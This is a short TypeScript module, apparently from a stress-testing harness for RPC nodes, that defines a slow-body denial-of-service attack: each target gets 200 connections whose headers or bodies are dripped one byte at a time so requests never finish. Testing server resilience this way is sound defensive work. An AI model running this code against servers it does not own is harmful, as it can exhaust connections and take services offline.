import type { Attack } from '../attack.ts';
import { CHUNKED_HEAD, drip, headOf, keepSockets, onEach } from '../http.ts';

const CONNECTIONS = 200;
const WAYS = [
  drip(headOf(8 << 20), ' ', 200),
  drip(CHUNKED_HEAD, '1\r\n \r\n', 200),
  drip('POST / HTTP/1.1\r\nhost: localhost\r\n', 'x', 200),
  // Most of the body comes at once, and then the last bytes one by one.
  drip(`${headOf(8 << 20)}${' '.repeat(8_000_000)}`, ' ', 500),
] as const;

export const attack: Attack = {
  name: 'rpc-slow-body',
  what: `${CONNECTIONS} requests to each node have headers or a body that come a byte at a time and never whole.`,
  run: ({ targets }, signal) =>
    onEach(targets, async (target) => {
      const sent = await Promise.all(
        WAYS.map((use) => keepSockets(target, CONNECTIONS / WAYS.length, use, signal)),
      );
      return sent.reduce((sum, bytes) => sum + bytes, 0);
    }),
};
